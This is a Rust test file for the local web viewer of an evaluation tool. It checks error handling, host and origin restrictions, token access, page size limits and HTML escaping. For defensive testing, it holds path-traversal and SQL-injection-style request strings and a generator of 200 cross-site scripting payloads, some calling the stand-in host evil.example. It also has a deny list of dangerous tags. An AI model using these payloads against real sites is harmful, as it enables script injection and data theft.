//! Hostile requests and hostile texts.

use std::fmt::Write as _;

use super::{Got, View, project_with_a_run};
use crate::project::Project;

#[test]
fn hostile_requests_get_clean_answers() {
    let project = project_with_a_run();
    let view = View::start(&project, &[]);
    let long = format!("/runs/latest/cases?q={}", "x".repeat(9000));
    let targets = [
        ("/nope", 404),
        ("/runs/nope", 404),
        ("/runs/", 404),
        ("/runs/latest/cases/nope", 404),
        ("/runs/latest/cases/case%2F05?lane=9", 404),
        ("/runs/%00", 404),
        ("/runs/%ff", 400),
        ("/runs/..%2f..%2fetc%2fpasswd", 404),
        ("/assets/..%2f..%2fCargo.toml", 404),
        ("/runs/'%20OR%201=1--/cases", 404),
        ("/runs/latest/cases?lane=0", 400),
        ("/runs/latest/cases?lane=99", 400),
        ("/runs/latest/cases?lane=-1", 400),
        ("/runs/latest/cases?verdict=maybe", 400),
        ("/runs/latest/cases?sort=;drop", 400),
        ("/runs/latest/cases?limit=1000000", 400),
        ("/runs/latest/cases?limit=0", 400),
        ("/runs/latest/cases?after=zzz", 400),
        ("/runs/latest/cases?after=eyJhIjoxfQ", 400),
        ("/runs/latest/cases?min=nan", 400),
        ("/runs/latest/cases?q=a&q=b", 400),
        ("/runs/latest/cases?flipped=nope", 404),
        ("/runs/latest/grid?runner=nope", 404),
        ("/runs/latest/grid?limit=101", 400),
        ("/compare?runs=nope,latest", 404),
        ("/compare?runs=latest@echo,latest@nope", 404),
        ("/compare?runs=a,b,c,d,e,f,g", 400),
        ("/trends?suite=nope", 404),
        ("/?since=yesterday", 400),
        ("/?since=-009999-01-01", 400),
        ("/?after=x", 400),
        ("/?after=-1", 400),
        ("/runs/latest/cases?flaky=yes", 400),
        (&long, 400),
    ];
    for (target, expected) in targets {
        let Got { status, head, body, .. } = view.get(target);
        assert_eq!(status, expected, "{target}: {body}");
        assert!(head.contains("content-type: text/html"), "{target}: {head}");
        assert!(body.contains("All runs"), "{target}: {body}");
    }
    for (target, expected, code) in [
        ("/api/v1/nope", 404, "not_found"),
        ("/api/v1/runs/nope", 404, "not_found"),
        ("/api/v1/runs?limit=501", 400, "bad_request"),
        ("/api/v1/compare", 400, "bad_request"),
        ("/api/v1/runs/latest/cases?unknown=1", 400, "bad_request"),
        ("/api", 404, "not_found"),
    ] {
        let got = view.get(target);
        assert_eq!(got.status, expected, "{target}: {}", got.body);
        assert_eq!(got.json()["error"]["code"], code, "{target}");
    }
}

#[test]
fn only_this_machine_may_read_and_nobody_may_write() {
    let project = project_with_a_run();
    let view = View::start(&project, &[]);
    let (host, port) = (&view.address, view.address.rsplit(':').next().unwrap());
    let status = |head: &str| view.ask(head).status;
    assert_eq!(status(&format!("GET / HTTP/1.1\r\nHost: {host}")), 200);
    assert_eq!(status(&format!("HEAD / HTTP/1.1\r\nHost: localhost:{port}")), 200);
    assert_eq!(status(&format!("GET / HTTP/1.1\r\nHost: evil.example:{port}")), 403);
    let from = format!("GET /api/v1/runs HTTP/1.1\r\nHost: {host}\r\nOrigin: http://evil.example");
    assert_eq!(status(&from), 403);
    for method in ["POST", "PUT", "DELETE", "PATCH", "OPTIONS"] {
        let got = view.ask(&format!("{method} / HTTP/1.1\r\nHost: {host}"));
        assert_eq!(got.status, 405, "{method}");
        assert!(got.head.contains("allow: get, head"), "{}", got.head);
    }
    let got = view.get("/");
    for header in [
        "content-security-policy: default-src 'none'; script-src 'self'",
        "x-content-type-options: nosniff",
        "referrer-policy: no-referrer",
        "cross-origin-resource-policy: same-origin",
    ] {
        assert!(got.head.contains(header), "{header}: {}", got.head);
    }
    assert!(!got.body.contains("<script>") && !got.body.contains("style="), "{}", got.body);
}

#[test]
fn another_address_needs_the_token_that_is_printed() {
    let project = project_with_a_run();
    let view = View::start(&project, &["--host", "0.0.0.0"]);
    let token = view.url.split_once("?token=").unwrap().1.to_owned();
    assert_eq!(view.get("/").status, 401);
    assert_eq!(view.get("/api/v1/runs").json()["error"]["code"], "unauthorized");
    assert_eq!(view.get("/assets/web.js").status, 401);
    assert_eq!(view.get(&format!("/?token={}", token.replace(&token[..1], "x"))).status, 401);
    let exchanged = view.get(&format!("/trends?token={token}"));
    assert_eq!(exchanged.status, 303);
    assert!(exchanged.head.contains("location: /trends\r\n"), "{}", exchanged.head);
    let with = |header: &str| {
        view.ask(&format!("GET / HTTP/1.1\r\nHost: {}\r\n{header}", view.address)).status
    };
    assert_eq!(with(&format!("Cookie: probity_token={token}")), 200);
    assert_eq!(with(&format!("Authorization: Bearer {token}")), 200);
}

/// Payloads that would run somewhere if a text were taken for anything else.
fn payloads() -> Vec<String> {
    let bodies = ["alert(1)", "fetch('http://evil.example')", "document.title='x'", "eval(name)"];
    let forms = [
        "<script>BODY</script>",
        "</script><script>BODY</script>",
        "<img src=x onerror=BODY>",
        "<svg onload=BODY>",
        "\"><script>BODY</script>",
        "'><img src=x onerror=BODY>",
        "\" autofocus onfocus=BODY x=\"",
        "' onmouseover=BODY '",
        "<iframe src=javascript:BODY>",
        "<a href=\"javascript:BODY\">x</a>",
        "</title><script>BODY</script>",
        "</textarea><script>BODY</script>",
        "</pre><script>BODY</script>",
        "<!--><script>BODY</script>",
        "]]><script>BODY</script>",
        "<math><mi xlink:href=\"javascript:BODY\">",
        "<details open ontoggle=BODY>",
        "<base href=http://evil.example/>",
        "<link rel=stylesheet href=http://evil.example/x.css>",
        "<meta http-equiv=refresh content=0;url=http://evil.example>",
        "<style>@import 'http://evil.example/x.css';</style>",
        "<object data=http://evil.example/x>",
        "<embed src=http://evil.example/x>",
        "<form action=http://evil.example><button>BODY</button></form>",
        "![x](http://evil.example/x.png) BODY",
        "&lt;script&gt;BODY&lt;/script&gt;",
        "%3Cscript%3EBODY%3C/script%3E",
        "\\u003cscript\\u003eBODY\\u003c/script\\u003e",
        "<scr\0ipt>BODY</scr\0ipt>",
        "\u{202e}<script>BODY</script>",
        "<script src=//evil.example/x.js></script>",
        "<video><source onerror=BODY></video>",
        "<body onload=BODY>",
        "<input onfocus=BODY autofocus>",
        "<marquee onstart=BODY>",
        "[[constructor.constructor('BODY')()]]",
        "${BODY}",
        "<template><script>BODY</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=BODY>\">",
        "<xmp></xmp><script>BODY</script>",
        "event: end\ndata: <script>BODY</script>\n\n",
        "<p style=\"background:url(javascript:BODY)\">",
        "<table background=javascript:BODY>",
        "<button formaction=javascript:BODY>x</button>",
        "<picture><img srcset=http://evil.example/x onerror=BODY></picture>",
        "<keygen autofocus onfocus=BODY>",
        "<isindex action=javascript:BODY>",
        "<frameset onload=BODY>",
        "<slot onslotchange=BODY>",
        "<dialog open onclose=BODY>",
    ];
    forms.iter().flat_map(|form| bodies.map(|body| form.replace("BODY", body))).collect()
}

#[test]
fn no_text_is_ever_markup() {
    let payloads = payloads();
    assert_eq!(payloads.len(), 200);
    let mut cases = String::new();
    for (at, payload) in payloads.iter().enumerate() {
        let case = serde_json::json!({
            "id": format!("case-{at:03}"),
            "prompt": payload,
            "notes": payload,
            "tags": [payload],
            "category": payload.chars().filter(|c| !c.is_control() && *c != '\u{202e}').collect::<String>(),
            "assert": [
                { "type": "contains", "value": format!("{payload}!"), "metric": payload },
                { "type": "equals", "value": "something else" },
            ],
        });
        let _ = writeln!(cases, "{case}");
    }
    let project = Project::new().file("cases.jsonl", &cases).file("probity.toml", super::SUITE);
    super::run(&project);
    let view = View::start(&project, &[]);
    let mut pages = vec![
        "/".to_owned(),
        "/runs/latest".to_owned(),
        "/runs/latest/cases?limit=250".to_owned(),
        "/runs/latest/grid?limit=100".to_owned(),
        "/compare?runs=latest@echo,latest@sed".to_owned(),
        "/trends".to_owned(),
    ];
    pages.extend((0..payloads.len()).map(|at| format!("/runs/latest/cases/case-{at:03}")));
    let mut encoded = String::new();
    for byte in payloads[0].bytes() {
        let _ = write!(encoded, "%{byte:02X}");
    }
    pages.push(format!(
        "/runs/latest/cases?q={encoded}&tag={encoded}&category={encoded}&score={encoded}"
    ));
    for target in &pages {
        let body = view.page(target);
        check_markup(target, &body);
    }
    for target in
        [format!("/runs/{encoded}"), format!("/trends?suite={encoded}"), format!("/?{encoded}=1")]
    {
        let got = view.get(&target);
        assert!((400..500).contains(&got.status), "{target}");
        check_markup(&target, &got.body);
    }
}

#[test]
fn no_page_is_large_however_large_the_texts_are() {
    let mut suite =
        "version = \"1\"\n[[runners]]\nname = \"long\"\ndataset = \"c.jsonl\"\n".to_owned();
    for at in 0..6 {
        let _ = write!(suite, "[backends.b{at}]\nkind = \"echo\"\n");
    }
    let mut cases = String::new();
    for at in 0..100 {
        let mut case = serde_json::json!({
            "id": format!("case-{at:03}"),
            "prompt": format!("{at} {}", "some words ".repeat(400)),
            "tags": (0..10).map(|it| format!("tag {it}")).collect::<Vec<_>>(),
            "assert": [{ "type": "equals", "value": "another text ".repeat(500) }],
        });
        if at == 0 {
            let said = |it: usize| {
                let role = if it.is_multiple_of(2) { "user" } else { "assistant" };
                serde_json::json!({ "role": role, "content": format!("{it} {}", "word ".repeat(900)) })
            };
            case["messages"] = (0..151).map(said).collect();
            case.as_object_mut().unwrap().remove("prompt");
        }
        let _ = writeln!(cases, "{case}");
    }
    let project = Project::new().file("c.jsonl", &cases).file("probity.toml", suite);
    super::run(&project);
    let view = View::start(&project, &[]);
    for target in [
        "/runs/latest",
        "/runs/latest/cases?limit=250",
        "/runs/latest/grid?limit=100",
        "/runs/latest/cases/case-000",
        "/runs/latest/cases/case-001",
        "/compare?runs=latest@b0,latest@b1",
    ] {
        let size = view.page(target).len();
        assert!(size < 300 << 10, "{target}: {size} bytes");
    }
}

/// Every tag and every attribute of a page is one that the templates write.
fn check_markup(target: &str, body: &str) {
    let mut rest = body;
    while let Some(at) = rest.find('<') {
        let tag = &rest[at + 1..];
        let end = tag_end(tag);
        check_tag(target, &tag[..end]);
        rest = &tag[end..];
    }
}

/// Where a tag ends: at a `>` that stands in no value.
fn tag_end(tag: &str) -> usize {
    let mut is_quoted = false;
    for (at, c) in tag.char_indices() {
        match c {
            '"' => is_quoted = !is_quoted,
            '>' if !is_quoted => return at,
            _ => {}
        }
    }
    panic!("a tag has no end: {}", &tag[..tag.len().min(80)]);
}

fn check_tag(target: &str, tag: &str) {
    const NEVER: [&str; 16] = [
        "iframe",
        "object",
        "embed",
        "style",
        "base",
        "img",
        "math",
        "video",
        "body onload",
        "marquee",
        "template",
        "noscript",
        "dialog",
        "frameset",
        "keygen",
        "picture",
    ];
    let name = tag.split(|c: char| c.is_whitespace()).next().unwrap_or_default();
    assert!(!NEVER.contains(&name), "{target}: <{tag}>");
    if name == "script" {
        assert!(tag.starts_with("script src=\"/assets/"), "{target}: <{tag}>");
    }
    // What stands outside of values are names of attributes.
    let outside: String = tag.split('"').step_by(2).collect();
    for attribute in outside.split_whitespace().skip(1) {
        assert!(!attribute.starts_with("on"), "{target}: <{tag}>");
    }
    for value in tag.split('"').skip(1).step_by(2) {
        let value = value.trim_start().to_ascii_lowercase();
        assert!(!value.starts_with("javascript:"), "{target}: <{tag}>");
        let is_address = tag.contains("href=") && value.starts_with("http");
        assert!(!is_address, "{target}: <{tag}>");
    }
}
